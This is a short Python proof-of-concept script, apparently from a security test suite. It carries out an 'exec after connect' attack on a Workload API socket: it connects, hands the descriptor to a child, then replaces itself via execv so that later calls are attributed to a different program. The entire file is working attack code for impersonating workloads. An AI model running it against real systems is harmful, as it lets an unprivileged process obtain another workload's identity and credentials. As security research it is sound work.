# The attack of "exec after connect", run as an unprivileged uid: connect to the Workload API
# socket, hand the connection to a child, and once the child has made one call (so the agent has
# accepted the connection and seen this program), replace this process with another program with
# execv. The kernel keeps this pid as the connection's peer, so every later call the child makes
# is attributed to the new program.
# Usage: python3 exec-after-connect.py SOCKET NODE CHILD_SCRIPT PROGRAM [ARG...]
import os
import socket
import subprocess
import sys

socket_path, node, child_script, program = sys.argv[1:5]
program_args = sys.argv[5:]

conn = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
conn.connect(socket_path)
child = subprocess.Popen(
    [node, child_script, str(conn.fileno()), os.path.basename(program)[:15]],
    pass_fds=[conn.fileno()],
    stdout=subprocess.PIPE,
    stderr=sys.stdout,
)
# The child says "ready" after its first call; its results go to our stdout.
if child.stdout.readline().strip() != b'ready':
    sys.exit('exec-after-connect: the child did not get ready')
conn.close()
os.execv(program, [program, *program_args])
